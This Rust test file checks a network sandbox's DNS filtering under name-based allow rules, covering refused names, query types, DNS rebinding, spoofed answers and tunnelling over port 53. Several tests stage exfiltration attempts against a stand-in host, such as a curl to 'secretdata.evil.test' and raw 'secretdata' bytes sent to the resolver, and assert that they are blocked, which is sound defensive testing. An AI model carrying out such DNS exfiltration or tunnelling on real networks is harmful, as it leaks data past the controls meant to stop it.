//! Tests of DNS under rules by name, with real clients (docs/guard.md). The module `names` has the tests of
//! connections.

use std::io::{ErrorKind, Read, Write};
use std::net::{IpAddr, SocketAddr};
use std::sync::atomic::{AtomicUsize, Ordering};

use testkit::message::Data::{self, Bytes, Name, Plain};
use wire::dns::{Section, Type};

use crate::harness::*;
use crate::names::{AT_FAR, AT_FAR6, AT_PEER, DNS_ALONE, curl, net};

const INDEX: &str = "index.example.org";
/// An argument of dig: a server that does not exist. With rules by name, queries go to the host's resolvers, whatever
/// server the guest chooses.
const ANY_SERVER: &str = "@192.0.2.53";
const RRSIG: &[Data<'_>] = &[
    Bytes(&[0, 1, 13, 3, 0, 0, 1, 44, 0x7f, 0, 0, 0, 0x60, 0, 0, 0, 0, 7]),
    Plain("example.org"),
    Bytes(&[0x5a; 64]),
];
/// The data of an HTTPS record with the parameters `alpn=h2`, `ipv4hint=203.0.113.2` and `ech`, a key of Encrypted
/// ClientHello.
const SERVICE: &[Data<'_>] = &[
    Bytes(&[0, 1]),
    Plain(""),
    Bytes(&[0, 1, 0, 3, 2, b'h', b'2', 0, 4, 0, 4, 203, 0, 113, 2, 0, 5, 0, 4, 0xde, 0xad, 0xbe, 0xef]),
];
const ROWS: &[Row] = &[
    (INDEX, Type::A, AT_FAR),
    (INDEX, Type::AAAA, AT_FAR6),
    (INDEX, Type::TXT, &[Bytes(b"\x04text")]),
    (INDEX, Type::MX, &[Bytes(&[0, 10]), Name("mail.example.org")]),
    (INDEX, Type::HTTPS, SERVICE),
    ("a.files.example.org", Type::A, AT_FAR),
    ("_http._tcp.index.example.org", Type::SRV, &[Bytes(&[0, 1, 0, 1, 0, 80]), Plain("mirror.example.net")]),
    ("mirror.example.net", Type::A, AT_PEER),
    ("2.113.0.203.in-addr.arpa", Type::PTR, &[Name("far.example.net")]),
    ("9.100.51.198.in-addr.arpa", Type::PTR, &[Name("neighbour.example.net")]),
];

/// Runs dig in the guest, without dig's configuration file.
fn dig(net: &Net, args: &[&str]) -> String {
    dig_at(net, ANY_SERVER, args)
}

fn dig_at(net: &Net, server: &str, args: &[&str]) -> String {
    net.guest.run(&[&["dig", "-r", "+tries=1", "+timeout=60", server], args].concat()).ok()
}

/// The addresses that the guest gets for a name.
fn addresses(net: &Net, args: &[&str]) -> Vec<String> {
    let short = dig(net, &[args, &["+short"]].concat());
    short.lines().map(str::to_owned).collect()
}

/// The log of [`pasta`].
fn log(net: &Net) -> String {
    std::fs::read_to_string(net.path("log")).unwrap()
}

fn pasta<'a>(net: &'a Net, args: &[&str]) -> Daemon<'a> {
    net.pasta(&[&["--log-file", &net.path("log")], args].concat())
}

#[track_caller]
fn assert_shows(output: &str, texts: &[&str]) {
    for text in texts {
        assert!(output.contains(text), "{text}: {output}");
    }
}

#[test]
fn a_refused_name_is_answered_once_and_never_leaves() {
    need!("curl", "dig", "socat");
    let Some(net) = net() else { return };
    let resolver = Resolver::with(&net.peer, PEER[0], ROWS);
    pasta(&net, &["--allow", INDEX, "--allow", "*.files.example.org"]);
    let capture = Capture::start(&net);
    let refused = curl(&net, &["https://secretdata.evil.test/"]);
    assert_eq!(refused.code(), 6, "{refused:?}");
    let log = log(&net);
    for kind in ["A", "AAAA"] {
        let line = format!("asked for secretdata.evil.test {kind} (default deny)");
        assert_eq!(log.matches(&line).count(), 1, "no client asks again: {log}");
    }
    for options in [&["TXT"][..], &["A", "+tcp"], &["AAAA", "+dnssec"]] {
        let seen = dig(&net, &[&["secretdata.evil.test"], options].concat());
        assert_shows(&seen, &["status: NXDOMAIN", "EDE: 15 (Blocked): (default deny)"]);
    }
    // The answer is not NXDOMAIN: a cache would apply NXDOMAIN to all names below, too.
    for name in ["files.example.org", "example.org", "org"] {
        let seen = dig(&net, &[name]);
        assert_shows(&seen, &["status: NOERROR", "ANSWER: 0", "EDE: 15 (Blocked): (default deny)"]);
    }
    assert_eq!(resolver.questions(), [""; 0]);
    assert!(!capture.has(b"secretdata"));
    assert_eq!(addresses(&net, &[INDEX]), ["203.0.113.2"]);
    assert!(capture.has(b"\x05index\x07example\x03org"), "the capture works");
    assert_eq!(resolver.questions(), ["index.example.org A"]);
}

#[test]
fn types_of_no_use_are_refused_for_all_names() {
    need!("dig");
    let Some(net) = net() else { return };
    let resolver = Resolver::with(&net.peer, PEER[0], ROWS);
    pasta(&net, &["--allow", INDEX]);
    for question in [
        &["ANY"][..],
        &["ANY", "+notcp"],
        &["NULL"],
        &["TYPE65280"],
        &["TXT", "-c", "CH"],
        &["A", "+opcode=STATUS"],
    ] {
        let seen = dig(&net, &[&[INDEX], question].concat());
        assert_shows(&seen, &["ANSWER: 0"]);
    }
    for transfer in ["AXFR", "IXFR=1"] {
        let seen = net.guest.run(&["dig", "-r", "+tries=1", ANY_SERVER, INDEX, transfer]);
        assert_shows(&seen.stdout, &["Transfer failed"]);
    }
    assert_eq!(resolver.questions(), [""; 0]);

    assert_eq!(dig(&net, &[INDEX, "TXT", "+short"]), "\"text\"\n");
    assert_eq!(dig(&net, &[INDEX, "MX", "+short"]), "10 mail.example.org.\n");
    assert_eq!(resolver.questions(), ["index.example.org TXT", "index.example.org MX"]);
}

/// The key of Encrypted ClientHello is removed from the answer. The other parameters are kept, and the address hint
/// counts as an address of the name.
#[test]
fn keys_of_encrypted_hellos_are_cut_out() {
    need!("dig");
    let Some(net) = net() else { return };
    let _resolver = Resolver::with(&net.peer, PEER[0], ROWS);
    pasta(&net, &["--allow", "index.example.org:7000"]);
    let listener = net.far.listen((FAR[0], 7000));
    assert_eq!(net.guest.connect((FAR[0], 7000)).unwrap_err().kind(), ErrorKind::ConnectionRefused);
    for option in ["+dnssec", "+noedns", "+tcp"] {
        let seen = dig(&net, &[INDEX, "HTTPS", "+short", option]);
        assert_eq!(seen, "1 . alpn=\"h2\" ipv4hint=203.0.113.2\n");
    }
    drop(net.guest.connect((FAR[0], 7000)).unwrap());
    accept(&listener);
}

/// The resolver gets only the name, the type and some flags of the guest's query. The guest gets an answer to its own
/// query.
#[test]
fn the_resolver_gets_other_words_and_the_guest_its_own() {
    need!("dig");
    let Some(net) = net() else { return };
    let resolver = Resolver::start(&net.peer, PEER[0], |query| {
        let mut answer = query.response().answer(&query.name, Type::A, AT_FAR);
        if query.opt_flags() == Some(0x8000) {
            answer = answer.answer(&query.name, Type::RRSIG, RRSIG);
        }
        Some(answer.bytes())
    });
    pasta(&net, &["--allow", INDEX]);
    let options =
        ["+dnssec", "+cd", "+cookie=5345435245545345", "+subnet=192.0.2.0/24", "+nsid", "+padding=64"];
    let seen = dig(&net, &[&["InDeX.eXaMpLe.OrG"], &options[..]].concat());
    assert_shows(&seen, &[";InDeX.eXaMpLe.OrG.", " ad cd;", "flags: do;", "203.0.113.2", "A 13 3 300"]);
    let plain = dig(&net, &[INDEX, "+noedns", "+noadflag", "+norecurse"]);
    assert!(!plain.contains("EDNS") && !plain.contains(" ad") && plain.contains("203.0.113.2"), "{plain}");

    let asked = resolver.asked();
    let [full, plain] = &asked[..] else { panic!("{asked:?}") };
    let question = b"\x05index\x07example\x03org\0\0\x01\0\x01";
    let opt = b"\0\0\x29\x04\xd0\0\0\x80\0\0\0";
    assert_eq!(full.message[2..], [&[1, 0x30, 0, 1, 0, 0, 0, 0, 0, 1], &question[..], opt].concat());
    assert_eq!(plain.message[2..], [&[0, 0, 0, 1, 0, 0, 0, 0, 0, 0], &question[..]].concat());
    assert!(full.message[..2] != plain.message[..2]);
}

#[test]
fn a_truncated_answer_is_asked_for_over_tcp() {
    const MANY: usize = 100;
    need!("dig");
    let Some(net) = net() else { return };
    let resolver = Resolver::start(&net.peer, PEER[0], |query| {
        let most = if query.over_tcp { MANY as u8 } else { 20 };
        let all = (1..=most).fold(query.response(), |message, last| {
            message.answer(&query.name, Type::A, &[Bytes(&[203, 0, 113, last])])
        });
        let mut bytes = all.bytes();
        bytes[2] |= if query.over_tcp { 0 } else { 2 };
        Some(bytes)
    });
    pasta(&net, &["--allow", "index.example.org:7000"]);
    // The records of a truncated answer may be incomplete, so the guest gets none of them.
    let cut = dig(&net, &[INDEX, "+bufsize=512", "+ignore"]);
    assert_shows(&cut, &["flags: qr tc", "ANSWER: 0"]);
    assert_eq!(net.guest.connect((FAR[0], 7000)).unwrap_err().kind(), ErrorKind::ConnectionRefused);
    assert_eq!(addresses(&net, &[INDEX, "+bufsize=512"]).len(), MANY);
    let _listener = net.far.listen((FAR[0], 7000));
    drop(net.guest.connect((FAR[0], 7000)).unwrap());
    let over_tcp: Vec<bool> = resolver.asked().iter().map(|query| query.over_tcp).collect();
    assert_eq!(over_tcp, [false, false, true]);

    // The guest sends several questions over one connection.
    let args = ["+tcp", "+keepopen", INDEX, "A", "evil.test", "A", INDEX, "A"];
    let all = dig(&net, &args);
    assert_eq!(all.matches("\tA\t203.0.113.").count(), 2 * MANY);
    assert_eq!(all.matches("NXDOMAIN").count(), 1);
}

/// A long answer arrives over UDP, in fragments, and over TCP. The guest may use all of its addresses.
#[test]
fn an_answer_has_many_addresses() {
    const MANY: u8 = 250;
    need!("dig");
    let Some(net) = net() else { return };
    let _resolver = Resolver::start(&net.peer, PEER[0], |query| {
        let all = (1..=MANY).fold(query.response(), |message, last| {
            message.answer(&query.name, Type::A, &[Bytes(&[192, 0, 2, last])])
        });
        Some(all.answer(&query.name, Type::A, AT_FAR).bytes())
    });
    pasta(&net, &["--mtu", "1500", "--allow", "index.example.org:7000"]);
    let listener = net.far.listen((FAR[0], 7000));
    for option in ["+bufsize=4096", "+tcp"] {
        let all = addresses(&net, &[INDEX, option]);
        assert_eq!((all.len(), all.last().unwrap().as_str()), (usize::from(MANY) + 1, "203.0.113.2"));
        drop(net.guest.connect((FAR[0], 7000)).unwrap());
        accept(&listener);
    }
}

/// The guest sends its queries to servers of both families. None of these servers is a resolver, and most do not exist.
#[test]
fn any_server_of_the_guest_answers() {
    need!("dig");
    let Some(net) = net() else { return };
    let _resolver = Resolver::with(&net.peer, PEER[0], ROWS);
    pasta(&net, &["--allow", INDEX]);
    for server in ["@2001:db8:5::53", "@10.0.0.1", "@8.8.8.8", "@198.51.100.1", "@fd00::1"] {
        for option in ["+notcp", "+tcp"] {
            let seen = dig_at(&net, server, &[INDEX, option]);
            assert_shows(&seen, &["203.0.113.2", &format!("SERVER: {}#53", &server[1..])]);
        }
    }
}

/// A resolver's answer to `query` with one address.
fn answer(query: &Query, address: [u8; 4]) -> Vec<u8> {
    query.seal(query.response().answer(&query.name, Type::A, &[Bytes(&address)]).bytes())
}

/// Answers with another ID, from another port or address, or to another question are ignored.
#[test]
fn only_the_answer_of_the_resolver_counts() {
    const LIE: [u8; 4] = [203, 0, 113, 66];
    need!("dig");
    let Some(net) = net() else { return };
    pasta(&net, &["--allow", "index.example.org:7000", "--allow", "other.example.org:7000"]);
    let resolver = net.peer.udp((PEER[0], 53));
    let (other_port, other_address) = (net.peer.udp((PEER[0], 5353)), net.peer.udp((PEER_ALIAS[0], 53)));
    let client = net.guest.start(&["dig", "-r", "+tries=1", "+timeout=60", ANY_SERVER, INDEX, "+short"]);
    let (message, from) = recv_from(&resolver);
    let query = Query::parse(&message, false);
    let lie = answer(&query, LIE);
    other_port.send_to(&lie, from).unwrap();
    other_address.send_to(&lie, from).unwrap();
    let mut other_id = lie.clone();
    other_id[0] ^= 1;
    resolver.send_to(&other_id, from).unwrap();
    let other = Query { name: "other.example.org".into(), ..query.clone() };
    resolver.send_to(&answer(&other, LIE), from).unwrap();
    let mut other_kind = lie;
    other_kind[12 + 19 + 1] = 28;
    resolver.send_to(&other_kind, from).unwrap();
    resolver.send_to(b"noise", from).unwrap();
    resolver.send_to(&answer(&query, [203, 0, 113, 2]), from).unwrap();
    assert_eq!(client.wait().ok(), "203.0.113.2\n");
    net.far.sh("ip address add 203.0.113.66/24 dev eth0");
    let refused = net.guest.connect((IpAddr::from(LIE), 7000)).unwrap_err();
    assert_eq!(refused.kind(), ErrorKind::ConnectionRefused);
    assert_shows(&log(&net), &["-> 203.0.113.66:7000 (default deny)"]);
}

/// The first resolver gets the query, and does not answer.
#[test]
fn a_silent_resolver_is_replaced() {
    need!("dig");
    let resolv_conf = "nameserver 198.51.100.4\nnameserver 198.51.100.3\n";
    let Some(net) = Net::with(Options { resolv_conf, ..Options::default() }) else { return };
    let silent = Resolver::start(&net.peer, PEER_ALIAS[0], |_| None);
    let _resolver = Resolver::with(&net.peer, PEER[0], ROWS);
    pasta(&net, &["--allow", INDEX]);
    assert_eq!(addresses(&net, &[INDEX]), ["203.0.113.2"]);
    assert_eq!(silent.questions(), ["index.example.org A"]);
}

/// The first resolver closes the TCP connection without an answer.
#[test]
fn a_resolver_that_closes_is_replaced() {
    need!("dig");
    let resolv_conf = "nameserver 198.51.100.4\nnameserver 198.51.100.3\n";
    let Some(net) = Net::with(Options { resolv_conf, ..Options::default() }) else { return };
    let silent = Resolver::start(&net.peer, PEER_ALIAS[0], |_| None);
    let _resolver = Resolver::with(&net.peer, PEER[0], ROWS);
    pasta(&net, &["--allow", INDEX]);
    assert_eq!(addresses(&net, &[INDEX, "+tcp"]), ["203.0.113.2"]);
    assert_eq!(silent.questions(), ["index.example.org A"]);
}

/// As with DNS load balancing, each answer has another address, with a time to live of 0 s. The guest may use all of
/// these addresses.
#[test]
fn each_address_of_a_name_that_changes_is_reached() {
    need!("dig");
    const SERVERS: [IpAddr; 3] = [FAR[0], PEER[0], PEER_ALIAS[0]];
    let Some(net) = net() else { return };
    let turn = AtomicUsize::new(0);
    let _resolver = Resolver::start(&net.peer, PEER[0], move |query| {
        let IpAddr::V4(address) = SERVERS[turn.fetch_add(1, Ordering::Relaxed) % SERVERS.len()] else {
            unreachable!()
        };
        let data = [Bytes(&address.octets())];
        Some(query.response().record(Section::Answer, &query.name, Type::A, 0, &data).bytes())
    });
    pasta(&net, &["--allow", "index.example.org:7000"]);
    let given: Vec<_> = (0..3).flat_map(|_| addresses(&net, &[INDEX])).collect();
    assert_eq!(given, SERVERS.map(|address| address.to_string()));
    for address in SERVERS {
        let listener = if address == FAR[0] { &net.far } else { &net.peer }.listen((address, 7000));
        drop(net.guest.connect((address, 7000)).unwrap());
        accept(&listener);
    }
}

/// This prevents DNS rebinding. The gateway's address leads to the host's loopback.
#[test]
fn an_answer_that_leads_into_private_networks_is_refused() {
    const MAPPED_PRIVATE: [u8; 16] = [0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0xff, 0xff, 10, 0, 0, 1];
    const PRIVATE: &[Row] = &[
        ("a.test", Type::A, &[Bytes(&[10, 0, 0, 1])]),
        ("b.test", Type::A, &[Bytes(&[127, 0, 0, 1])]),
        ("c.test", Type::A, &[Bytes(&[198, 51, 100, 1])]),
        ("d.test", Type::A, &[Bytes(&[198, 51, 100, 2])]),
        ("e.test", Type::A, &[Bytes(&[169, 254, 169, 254])]),
        ("f.test", Type::A, &[Bytes(&[0, 0, 0, 0])]),
        ("g.test", Type::AAAA, &[Bytes(&[0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 1])]),
        ("h.test", Type::AAAA, &[Bytes(&MAPPED_PRIVATE)]),
        ("i.test", Type::CNAME, &[Name("a.test")]),
        ("j.test", Type::A, AT_FAR),
        ("j.test", Type::A, &[Bytes(&[10, 0, 0, 1])]),
        ("k.test", Type::A, &[Bytes(&[10, 0, 0, 2])]),
    ];
    need!("curl", "dig");
    let Some(net) = net() else { return };
    let _resolver = Resolver::with(&net.peer, PEER[0], PRIVATE);
    pasta(&net, &["--allow", "*.test", "--allow", "10.0.0.2"]);
    for (name, kind) in [
        ("a.test", "A"),
        ("b.test", "A"),
        ("c.test", "A"),
        ("d.test", "A"),
        ("e.test", "A"),
        ("f.test", "A"),
        ("g.test", "AAAA"),
        ("h.test", "AAAA"),
        ("i.test", "A"),
        ("j.test", "A"),
    ] {
        let seen = dig(&net, &[name, kind]);
        assert_shows(&seen, &["status: NOERROR", "ANSWER: 0", "EDE: 15 (Blocked)"]);
        let curl = curl(&net, &[&format!("http://{name}/")]);
        assert_eq!(curl.code(), 6, "{curl:?}");
    }
    assert_shows(&log(&net), &["was answered for a.test A (its address 10.0.0.1 is not public, "]);
    assert_eq!(addresses(&net, &["k.test"]), ["10.0.0.2"]);
}

/// behaviour §3.4.4: servers of one family answer queries over the other family.
#[test]
fn a_guest_without_the_family_of_the_resolver_has_names() {
    need!("dig");
    let resolv_conf = "nameserver 2001:db8:1::3\n";
    let Some(net) = Net::with(Options { resolv_conf, ..Options::default() }) else { return };
    let _resolver = Resolver::with(&net.peer, PEER[1], ROWS);
    pasta(&net, &["--ipv4-only", "--allow", INDEX]);
    for option in ["+notcp", "+tcp"] {
        assert_eq!(addresses(&net, &[INDEX, option]), ["203.0.113.2"]);
    }
}

/// systemd-resolved uses such an address. The guest can't reach the resolver by this address.
#[test]
fn a_resolver_at_the_hosts_loopback_is_asked() {
    need!("dig");
    let resolv_conf = "nameserver 127.0.0.53\n";
    let Some(net) = Net::with(Options { resolv_conf, ..Options::default() }) else { return };
    let _resolver = Resolver::with(&net.host, "127.0.0.53".parse().unwrap(), ROWS);
    pasta(&net, &["--no-map-gw", "--allow", INDEX]);
    for option in ["+notcp", "+tcp"] {
        assert_eq!(addresses(&net, &[INDEX, option]), ["203.0.113.2"]);
    }
}

#[test]
fn dns_host_is_asked_instead_of_the_hosts_resolver() {
    need!("dig");
    let Some(net) = net() else { return };
    let not_this = Resolver::with(&net.peer, PEER[0], ROWS);
    let _resolver = Resolver::with(&net.peer, PEER_ALIAS[0], ROWS);
    pasta(&net, &["--dns-host", "198.51.100.4", "--allow", INDEX]);
    assert_eq!(addresses(&net, &[INDEX]), ["203.0.113.2"]);
    assert_eq!(not_this.questions(), [""; 0]);
}

#[test]
fn a_new_resolver_of_the_host_is_asked() {
    need!("dig");
    let Some(net) = net() else { return };
    let _resolvers = [PEER[0], PEER_ALIAS[0]].map(|at| Resolver::with(&net.peer, at, ROWS));
    let [_, new] = &_resolvers;
    pasta(&net, &["--allow", INDEX]);
    assert_eq!(addresses(&net, &[INDEX]), ["203.0.113.2"]);
    assert_eq!(new.questions(), [""; 0]);
    std::fs::write(net.path("resolv.conf"), "nameserver 198.51.100.4\n").unwrap();
    wait_until("a query to the new resolver", || {
        assert_eq!(addresses(&net, &[INDEX]), ["203.0.113.2"]);
        !new.questions().is_empty()
    });
}

/// After a refusal, a stub resolver appends its search domain to the name and asks again. A wildcard allows names below
/// the search domain, but the refused name must not leave the guest as a part of the new name.
#[test]
fn a_refused_name_does_not_leave_with_a_search_domain() {
    need!("dig", "socat");
    let resolv_conf = "search files.example.org\nnameserver 198.51.100.3\n";
    let Some(net) = Net::with(Options { resolv_conf, host_setup: DNS_ALONE, ..Options::default() }) else {
        return;
    };
    let resolver = Resolver::with(&net.peer, PEER[0], ROWS);
    pasta(&net, &["--allow", "*.files.example.org"]);
    let capture = Capture::start(&net);
    for ask in [
        &["getent", "ahostsv4", "secretdata.evil.test"][..],
        &["dig", "-r", "+search", "+ndots=1", "secretdata.evil.test"],
    ] {
        net.guest.run(ask);
    }
    assert_shows(
        &log(&net),
        &["asked for secretdata.evil.test.files.example.org A (a refused name and a search domain)"],
    );
    assert_eq!(resolver.questions(), [""; 0]);
    assert!(!capture.has(b"secretdata"));
    // For a short name, a stub resolver appends the search domain in its first question. This question is allowed.
    let found = net.guest.run(&["getent", "ahostsv4", "a"]);
    assert_shows(&found.ok(), &["203.0.113.2"]);
}

/// Like apt, the client asks for the service and for its target, and then sends the name of the service in its first
/// bytes.
#[test]
fn the_target_of_a_service_counts_as_its_name() {
    need!("curl", "dig");
    let Some(net) = net() else { return };
    let resolver = Resolver::with(&net.peer, PEER[0], ROWS);
    let server = Server::start(&net.peer, (PEER[0], 80), None, web);
    pasta(&net, &["--allow", INDEX]);
    assert_eq!(addresses(&net, &["mirror.example.net"]), [""; 0]);
    assert_eq!(addresses(&net, &["_http._tcp.index.example.org", "SRV"]), ["1 1 80 mirror.example.net."]);
    assert_eq!(addresses(&net, &["mirror.example.net"]), ["198.51.100.3"]);
    assert_eq!(resolver.questions(), ["_http._tcp.index.example.org SRV", "mirror.example.net A"]);
    let as_apt = curl(&net, &["--resolve", "index.example.org:80:198.51.100.3", "http://index.example.org/"]);
    assert_eq!(as_apt.ok(), "hello");
    let by_target = curl(&net, &["http://mirror.example.net/"]);
    assert_eq!(by_target.code(), 56, "{by_target:?}");
    assert_eq!(server.all_seen(2)[1], b"");
}

/// The guest may ask for the name of an address that it may reach, or that is in its own network.
#[test]
fn reverse_names() {
    need!("dig");
    let Some(net) = net() else { return };
    let resolver = Resolver::with(&net.peer, PEER[0], ROWS);
    pasta(&net, &["--allow", INDEX]);
    assert_eq!(addresses(&net, &["-x", "198.51.100.9"]), ["neighbour.example.net."]);
    let refused = dig(&net, &["-x", "203.0.113.2"]);
    assert_shows(&refused, &["ANSWER: 0", "EDE: 15 (Blocked)"]);
    assert_eq!(addresses(&net, &[INDEX]), ["203.0.113.2"]);
    assert_eq!(addresses(&net, &["-x", "203.0.113.2"]), ["far.example.net."]);
    assert_eq!(resolver.questions().len(), 3);
}

/// Bytes other than queries are not forwarded over port 53. Connections to DNS over TLS are refused, so stub resolvers
/// fall back to port 53.
#[test]
fn there_is_no_other_way_to_a_resolver() {
    need!("socat");
    let Some(net) = net() else { return };
    let _resolver = Resolver::with(&net.peer, PEER[0], ROWS);
    pasta(&net, &["--allow", INDEX]);
    let capture = Capture::start(&net);
    let resolver = SocketAddr::new(PEER[0], 853);
    let _listener = net.peer.listen(resolver);
    assert_eq!(net.guest.connect(resolver).unwrap_err().kind(), ErrorKind::ConnectionRefused);
    let mut tunnel = net.guest.connect((PEER[0], 53)).unwrap();
    tunnel.write_all(b"\0\x0asecretdata").unwrap();
    let end = tunnel.read(&mut [0; 100]);
    assert!(end.is_err_and(|error| error.kind() == ErrorKind::ConnectionReset));
    let tunnel = net.guest.udp((any(PEER[0]), 0));
    tunnel.send_to(b"secretdata", (PEER[0], 53)).unwrap();
    // Frames are handled in order, so the datagram was handled before this connection is refused.
    assert_eq!(net.guest.connect(resolver).unwrap_err().kind(), ErrorKind::ConnectionRefused);
    assert!(!capture.has(b"secretdata"));
}

/// The host's resolver listens on its loopback, at a port that `-T` and `-U` forward.
#[test]
fn the_bypass_is_no_way_to_a_resolver() {
    let Some(net) = net() else { return };
    let resolver = Resolver::with(&net.host, LOOPBACK[0], ROWS);
    pasta(&net, &["--dns-host", "127.0.0.1", "--deny", "evil.test", "-T", "53", "-U", "53"]);
    let query = b"\x12\x34\x01\0\0\x01\0\0\0\0\0\0\x04evil\x04test\0\0\x01\0\x01";
    let at = SocketAddr::new(LOOPBACK[0], 53);
    net.guest.udp((LOOPBACK[0], 0)).send_to(query, at).unwrap();
    let mut stream = net.guest.connect(at).unwrap();
    // The reset is the result of the first call after its arrival.
    let sent = stream.write_all(&[&(query.len() as u16).to_be_bytes()[..], query].concat());
    let end = sent.and_then(|()| stream.read(&mut [0; 100]));
    assert!(end.is_err_and(|error| error.kind() == ErrorKind::ConnectionReset));
    let client = stream.local_addr().unwrap();
    wait_until("the refusals", || {
        let log = log(&net);
        assert!(!log.contains("tcp") || log.contains(&format!("refused: tcp {client} -> ")), "{log}");
        let refused = log
            .lines()
            .filter(|line| line.ends_with("-> 127.0.0.1:53 (rules by name: no other name service)"));
        refused.count() == 2
    });
    assert_eq!(resolver.questions(), [""; 0]);
}
